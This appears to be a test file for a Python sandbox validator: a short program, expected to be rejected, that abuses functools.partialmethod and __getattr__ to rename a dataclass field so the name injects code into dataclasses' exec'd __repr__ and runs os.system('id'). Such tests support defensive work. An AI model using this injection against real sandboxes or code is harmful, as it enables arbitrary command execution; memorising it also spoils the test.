# expect: reject module_attribute
# verified: reaches its goal under plain python3 (3.11) in a temp dir
# Mechanism: no __get__ defined, but functools.partialmethod's __get__ asks its
#   function for __get__ with getattr, which the program's __getattr__ answers:
#   while @dataclass reads the defaults, that code renames the later field's
#   Field (still the class attribute), and the name is pasted into __repr__'s source.
# Goal reached: code injected into dataclasses' exec; ran a process (id).
import dataclasses
import functools


class Sneaky:
    def __init__(self):
        self.calls = 0

    def __getattr__(self, name):
        if name == "__get__":
            def get(obj, owner):
                self.calls += 1
                if self.calls == 2:
                    owner.b.name = "b or{__import__('os').system('id')}"
                return self
            return get
        raise AttributeError(name)

    def __call__(self, *a):
        return 0


@dataclasses.dataclass(init=False, eq=False)
class Point:
    a: int = functools.partialmethod(Sneaky())
    b: int = dataclasses.field(default=0)


print(repr(Point()))
